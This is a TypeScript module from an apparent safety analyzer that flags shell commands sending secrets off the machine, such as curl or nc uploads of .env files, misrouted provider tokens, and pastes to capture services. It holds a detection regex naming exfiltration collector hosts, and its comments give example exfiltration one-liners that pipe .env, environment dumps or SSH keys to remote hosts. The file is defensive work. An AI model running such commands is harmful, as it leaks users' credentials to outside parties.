// Secrets leaving the machine: credentials or the environment sent to a host,
// a provider's token sent to another provider or a collector, and cloud
// credentials fetched from an instance metadata service.
import { hasFlag, optionValues, positionals } from '../../command/args';
import { isLocalHost, looksLikeUrl, parseUrl } from '../common/urls';
import type { AnalysisContext, Finding, SimpleCommand } from '../../types';
import { isEnvDump, tokenCliFinding } from './printed';
import { credentialIn, inputRedirects } from '../common/credentials';
import { secretRefs, secretRefsOf, SEND_ALT, stdoutShown } from './common';
import { finding } from '../common/finding';
import { own } from '../../text/own';
import { scriptUpload } from '../common/transferScripts';
import { dumpedWhat, substitutedSecret } from './substitutions';
import { readsClipboard } from './channels';
import { socatFiles } from './clientInputs';
import { outputFileValues } from '../common/senderOutputs';
import { runTimeFileSent } from './runTimeSends';
export { HTTP_FETCHERS, canonicalHost, metadataUrlFinding, metadataFinding } from './metadata';

// ---- sending to the network ------------------------------------------------------

const CURL_DATA_OPTS = [
  '-d',
  '--data',
  '--data-ascii',
  '--data-binary',
  '--data-urlencode',
  '--json',
  '-F',
  '--form',
  '--form-string',
  '-T',
  '--upload-file',
  '-H',
  '--header',
  '-K',
  '--config',
  // curl 8.3: `--variable name@file` reads a file that `--expand-data '{{name}}'` (or any `--expand-*`) then sends.
  '--variable',
];
/** The file a curl option value reads, if any: `@file` (data, header), `name@file` (urlencode), `name=@file` / `name=<file` (form). */
function curlValueFile(opt: string, v: string): string | undefined {
  if (opt === '-T' || opt === '--upload-file' || opt === '-K' || opt === '--config') return v === '.' ? '-' : v;
  if (opt === '-F' || opt === '--form') {
    const m = /^[^=]*=[@<]([^;]+)/.exec(v);
    return m ? m[1] : undefined;
  }
  if (opt === '--form-string') return undefined;
  if (opt === '--variable') {
    // `name@file`, `name[0-99]@file`; `%NAME` imports an environment variable and `name=text` is a literal.
    const m = /^[^=@%][^=@]*@(.+)$/.exec(v);
    return m ? m[1] : undefined;
  }
  if (v.startsWith('@')) return v.slice(1);
  if (opt === '--data-urlencode') {
    const m = /^[^=@]*@(.+)$/.exec(v);
    return m ? m[1] : undefined;
  }
  return undefined;
}

/** Download managers: every request they make carries the words of its URL and headers. */
export const URL_ONLY_SENDERS: ReadonlySet<string> = new Set(['aria2c', 'axel', 'wcurl', 'curlie']);

/** Whether a sender reads stdin (`-d @-`, `-T -`, httpie's piped body) and which files it attaches. */
export function senderInputs(name: string, argv: readonly string[]): { stdin: boolean; files: string[] } {
  const files: string[] = [];
  let stdin = false;
  const take = (file: string | undefined) => {
    if (file === undefined) return;
    if (file === '-' || file === '/dev/stdin') stdin = true;
    else files.push(file);
  };
  if (name === 'curl') {
    for (let i = 1; i < argv.length; i++) {
      const a = argv[i];
      // Indexed: every option of every curl, and until V8 optimizes this (most of a batch) for…of allocates per step.
      for (let k = 0; k < CURL_DATA_OPTS.length; k++) {
        const o = CURL_DATA_OPTS[k];
        let v: string | undefined;
        if (a === o) v = argv[i + 1];
        else if (o.startsWith('--') ? a.startsWith(o + '=') : a.startsWith(o) && a.length > 2 && !a.startsWith('--'))
          v = a.slice(o.startsWith('--') ? o.length + 1 : 2);
        if (v === undefined) continue;
        take(curlValueFile(o, v));
        break;
      }
    }
    return { stdin, files };
  }
  if (name === 'wget') {
    for (const v of optionValues(argv, ['--post-file', '--body-file'])) take(v);
    return { stdin, files };
  }
  if (name === 'http' || name === 'https' || name === 'xh' || name === 'xhs' || name === 'httpie') {
    // httpie sends a piped stdin as the body unless told to ignore it; `@file` / `field@file` / `field=@file` attach files.
    stdin = !hasFlag(argv, ['--ignore-stdin', '-I']);
    for (const a of positionals(argv)) {
      const m = /^(?:[^\s=@:]*(?:=|:=)?)@(.+)$/.exec(a);
      if (m) files.push(m[1]);
    }
    return { stdin, files };
  }
  // Download managers send nothing but their URLs and headers, where a substituted secret still goes (substitutedSecret).
  if (URL_ONLY_SENDERS.has(name)) return { stdin, files };
  // nc, socat, telnet: whatever comes on stdin goes out, and socat's file addresses too.
  return { stdin: true, files: name === 'socat' ? socatFiles(argv) : files };
}

/** What goes to another host goes whole: a folder that holds a key store (`~/.config`, `~/.local`) carries it along. */
const SENT_WHOLE = { holders: true } as const;

export function credentialProducer(
  from: readonly string[],
  cmd: SimpleCommand,
  ctx: AnalysisContext,
): string | undefined {
  if (isEnvDump(from)) return dumpedWhat(from);
  if (readsClipboard(from)) return 'the clipboard';
  // `echo "$TOKEN" | gzip | curl -d @-`: the unresolved variable is still in the producer's words.
  if (from[0] === 'echo' || from[0] === 'printf') {
    const refs = from.slice(1).flatMap((w) => secretRefs(w));
    return refs.length ? '$' + refs[0] : undefined;
  }
  if (tokenCliFinding(from[0], from)) return `the output of ${from.slice(0, 3).join(' ')}`;
  const hit = credentialIn(
    from.slice(1).filter((w) => !w.startsWith('-')),
    cmd,
    ctx,
    SENT_WHOLE,
  );
  return hit ? hit.shown : undefined;
}

type SenderInputs = ReturnType<typeof senderInputs>;

export function sendFindings(
  name: string,
  cmd: SimpleCommand,
  ctx: AnalysisContext,
  inputs: SenderInputs,
): Finding | undefined {
  const { stdin, files } = inputs;
  const send = (what: string) =>
    finding('secrets.send-to-network', 85, `${name} sends ${what} to another host`, what, SEND_ALT);
  // `cat .env | gzip | curl --data-binary @-`: through filters that only transform, what arrives is the first command's data.
  // A direct `echo "$TOKEN" | curl …` is judged at echo, which sees how the variable was quoted (pipedSecretFinding).
  const from =
    cmd.stdinOrigin ?? (cmd.stdinFrom?.[0] === 'echo' || cmd.stdinFrom?.[0] === 'printf' ? undefined : cmd.stdinFrom);
  // A producer whose output the reader knows (`cat .git/config |`) still hands over the file it read.
  if (stdin && from) {
    const what = credentialProducer(from, cmd, ctx);
    if (what) return send(what);
  }
  const fileHit = credentialIn([...files, ...inputRedirects(cmd)], cmd, ctx, SENT_WHOLE);
  if (fileHit) return send(fileHit.shown);
  // `curl -d "$(env)"`, `curl -d "$(<.env)"`, `curl "…?d=$(gzip -c .env | base64)"`: however the file is read.
  const substituted = substitutedSecret(cmd, ctx);
  if (substituted) return send(substituted);
  // `cat .env | xargs -I{} curl https://x/{}`, `xargs -a .env …`: one request per line of the file, its words in each.
  const feeder = cmd.stdinOrigin ?? cmd.stdinFrom;
  if (cmd.repeated && feeder && cmd.dynamic.some(Boolean) && cmd.via.some((v) => /^(?:xargs|parallel)\b/.test(v))) {
    const what = credentialProducer(feeder, cmd, ctx);
    if (what) return send(what);
  }
  return runTimeFileSent(name, [...files, ...inputRedirects(cmd)], cmd, () => urlWords(cmd.argv));
}

// ---- a secret variable sent where it does not belong --------------------------------

// The provider a credential variable belongs to, by its first name part, and words its API hosts contain.
// Registries and proxies that legitimately take many kinds of tokens (NPM, DOCKER) are left out.
const PROVIDER_HOST_WORDS: Record<string, readonly string[]> = {
  GITHUB: ['github', 'ghcr'],
  GH: ['github', 'ghcr'],
  GITLAB: ['gitlab'],
  BITBUCKET: ['bitbucket'],
  OPENAI: ['openai'],
  ANTHROPIC: ['anthropic'],
  CLAUDE: ['anthropic'],
  GEMINI: ['google'],
  MISTRAL: ['mistral'],
  GROQ: ['groq'],
  COHERE: ['cohere'],
  REPLICATE: ['replicate'],
  HF: ['huggingface', 'hf.co'],
  HUGGINGFACE: ['huggingface', 'hf.co'],
  STRIPE: ['stripe'],
  AWS: ['amazonaws', 'aws'],
  RAILWAY: ['railway'],
  VERCEL: ['vercel'],
  NETLIFY: ['netlify'],
  HEROKU: ['heroku'],
  FLY: ['fly.io', 'fly.dev', 'machines.dev'],
  SUPABASE: ['supabase'],
  NEON: ['neon'],
  CLOUDFLARE: ['cloudflare'],
  SLACK: ['slack'],
  DISCORD: ['discord'],
  SENTRY: ['sentry'],
  DATADOG: ['datadog'],
  TWILIO: ['twilio'],
  SENDGRID: ['sendgrid'],
  MAILGUN: ['mailgun'],
  LINEAR: ['linear'],
  DIGITALOCEAN: ['digitalocean'],
  RENDER: ['render'],
  PLANETSCALE: ['planetscale', 'psdb'],
  TURSO: ['turso'],
  UPSTASH: ['upstash'],
  PULUMI: ['pulumi'],
  ALGOLIA: ['algolia'],
  PINECONE: ['pinecone'],
  SHOPIFY: ['shopify'],
};
// Services that record whatever is sent to them for anyone holding the link: requests, pastes, uploads.
export const COLLECTOR_HOST_RE =
  /(?:^|\.)(?:webhook\.site|requestbin\.[a-z.]+|pipedream\.net|hookbin\.com|beeceptor\.com|requestcatcher\.com|postb\.in|ptsv[23]\.com|mockbin\.[a-z]+|transfer\.sh|pastebin\.com|hastebin\.[a-z]+|paste\.ee|termbin\.com|0x0\.st|file\.io|ix\.io|sprunge\.us|dpaste\.[a-z]+|interact\.sh|oast\.[a-z]+|burpcollaborator\.net|canarytokens\.com)$|(?:^|[.-])(?:requestbin|webhook|paste|pastebin|collector|exfil|hookbin)(?:[.-]|$)/;

// A word each of COLLECTOR_HOST_RE's alternatives holds (both are case-sensitive): a host with none of them is
// answered without compiling the expression (0.5–0.7 ms at its first test in a hook's process).
const COLLECTOR_HOST_WORDS = [
  'webhook',
  'requestbin',
  'pipedream.net',
  'hookbin',
  'beeceptor.com',
  'requestcatcher.com',
  'postb.in',
  'ptsv',
  'mockbin.',
  'transfer.sh',
  'paste',
  'hastebin.',
  'termbin.com',
  '0x0.st',
  'file.io',
  'ix.io',
  'sprunge.us',
  'interact.sh',
  'oast.',
  'burpcollaborator.net',
  'canarytokens.com',
  'collector',
  'exfil',
];

/** COLLECTOR_HOST_RE's test, with the words it needs looked for first. */
export function isCollectorHost(host: string): boolean {
  for (let k = 0; k < COLLECTOR_HOST_WORDS.length; k++)
    if (host.includes(COLLECTOR_HOST_WORDS[k])) return COLLECTOR_HOST_RE.test(host);
  return false;
}

/**
 * A secret variable sent to a host that is not its provider's, and anything
 * uploaded (a file, piped output) to a paste or request-capture service.
 */
export function destinationFinding(name: string, cmd: SimpleCommand, inputs: SenderInputs): Finding | undefined {
  const { stdin, files } = inputs;
  const uploads =
    files.length > 0 || (stdin && cmd.stdinFrom !== undefined && name !== 'nc' && name !== 'ncat' && name !== 'netcat');
  const refs = uploads || cmd.source.includes('$') ? secretRefsOf(cmd) : [];
  if (refs.length === 0 && !uploads) return undefined;
  // Most calls carry their own service's token to its own API: only a provider-named token or a collector host needs the URL.
  if (!refs.some((r) => own(PROVIDER_HOST_WORDS, r.toUpperCase().split('_')[0])) && !COLLECTOR_HINT_RE.test(cmd.source))
    return undefined;
  for (const url of urlWords(cmd.argv)) {
    const host = parseUrl(url)?.host;
    if (!host || isLocalHost(host)) continue;
    if (isCollectorHost(host)) {
      if (refs.length)
        return finding(
          'secrets.send-to-network',
          85,
          `${name} sends $${refs[0]} to ${host}, a service that records what it receives`,
          refs[0],
          SEND_ALT,
        );
      const what = files[0] ?? `the output of ${cmd.stdinFrom?.slice(0, 2).join(' ')}`;
      return finding(
        'secrets.upload-to-paste',
        60,
        `${name} uploads ${what} to ${host}, where anyone with the link can read it`,
        host,
        "share files through the project's own channels; ask the user",
      );
    }
    for (const ref of refs) {
      const words = own(PROVIDER_HOST_WORDS, ref.toUpperCase().split('_')[0]);
      if (words && !words.some((w) => host.includes(w))) {
        return finding(
          'secrets.send-to-network',
          65,
          `${cmd.argv[0]} sends $${ref}, a credential for another service, to ${host}`,
          ref,
          SEND_ALT,
        );
      }
    }
  }
  return undefined;
}

/** Tokens a CLI prints, captured by `$(…)` in another command's words, and the hosts of the service they are for. */
const TOKEN_SUBSTITUTIONS: ReadonlyArray<[RegExp, string, readonly string[]]> = [
  [
    /\$\(\s*gcloud\s+auth\s+(?:application-default\s+)?print-(?:access|identity)-token\b[^)]*\)/,
    'a Google Cloud token',
    ['googleapis.com', 'google.com', 'run.app', 'appspot.com', 'cloudfunctions.net', 'pkg.dev', 'gcr.io', 'goog'],
  ],
  [/\$\(\s*gh\s+auth\s+token\b[^)]*\)/, 'a GitHub token', ['github.com', 'githubusercontent.com', 'ghcr.io']],
  [
    /\$\(\s*az\s+account\s+get-access-token\b[^)]*\)/,
    'an Azure token',
    ['azure.com', 'microsoft.com', 'windows.net', 'azure.net', 'microsoftonline.com'],
  ],
  [/\$\(\s*(?:fly|flyctl)\s+auth\s+token\b[^)]*\)/, 'a Fly.io token', ['fly.io', 'fly.dev', 'machines.dev']],
  [/\$\(\s*heroku\s+auth:token\b[^)]*\)/, 'a Heroku token', ['heroku.com']],
];

/**
 * `curl -H "Authorization: Bearer $(gcloud auth print-access-token)" URL`:
 * the token goes where the URL points. Its own service's API is what it is
 * for; anywhere else it leaks, and `echo $(gh auth token)` prints it.
 */
export function tokenSubstitutionFinding(name: string, cmd: SimpleCommand): Finding | undefined {
  if (!cmd.source.includes('$(')) return undefined;
  for (const [re, what, hosts] of TOKEN_SUBSTITUTIONS) {
    if (!re.test(cmd.source)) continue;
    if (name === 'echo' || name === 'printf')
      return stdoutShown(cmd)
        ? finding(
            'secrets.print-token',
            60,
            `${name} prints ${what} into the agent's transcript`,
            what,
            'let the tool authenticate itself instead of printing the credential',
          )
        : undefined;
    for (const url of urlWords(cmd.argv)) {
      const host = parseUrl(url)?.host;
      if (!host || isLocalHost(host)) continue;
      if (!hosts.some((h) => host === h || host.endsWith('.' + h) || host.includes(h)))
        return finding(
          'secrets.send-to-network',
          70,
          `${name} sends ${what} to ${host}, which is not its service`,
          host,
          SEND_ALT,
        );
    }
  }
  return undefined;
}

// Cheap pre-test on the command text for COLLECTOR_HOST_RE.
const COLLECTOR_HINT_RE =
  /webhook|requestbin|pipedream|hookbin|beeceptor|requestcatcher|postb\.in|ptsv|mockbin|transfer\.sh|paste|termbin|0x0\.st|file\.io|ix\.io|sprunge|interact\.sh|oast\.|burpcollaborator|canarytokens|collector|exfil/i;

/** The words of a client's command line that are URLs (at most 8). */
export function urlWords(argv: readonly string[]): string[] {
  const out: string[] = [];
  const outputs = outputFileValues(argv);
  for (let i = 1; i < argv.length && out.length < 8; i++) {
    const a = argv[i];
    if (a[0] !== '-' && looksLikeUrl(a) && !outputs.has(i)) out.push(a);
    else if (a.startsWith('--url=')) out.push(a.slice(6));
  }
  return out;
}

export function remoteCopyFinding(name: string, cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  const pos = positionals(cmd.argv, [
    '-i',
    '-P',
    '-p',
    '-o',
    '-F',
    '-e',
    '--rsh',
    '-l',
    '-c',
    '-J',
    '--exclude',
    '--include',
  ]);
  if (pos.length < 2) return undefined;
  const dest = pos[pos.length - 1];
  if (!/^[^/]*:/.test(dest)) return undefined;
  const hit = credentialIn(pos.slice(0, -1), cmd, ctx, SENT_WHOLE);
  return hit
    ? finding('secrets.send-to-network', 85, `${name} copies ${hit.shown} to ${dest}`, hit.shown, SEND_ALT)
    : runTimeFileSent(name, pos.slice(0, -1), cmd, () => []);
}

/** `lftp -c 'open h; put ~/.ssh/id_rsa'`, `smbclient //h/s -c 'put .env'`: a credential in a transfer client's script. */
export function scriptUploadFinding(cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  const up = scriptUpload(cmd, ctx);
  const hit = up && credentialIn(up.files, cmd, ctx, SENT_WHOLE);
  return hit
    ? finding('secrets.send-to-network', 85, `${up.client} uploads ${hit.shown} to ${up.host}`, hit.shown, SEND_ALT)
    : undefined;
}
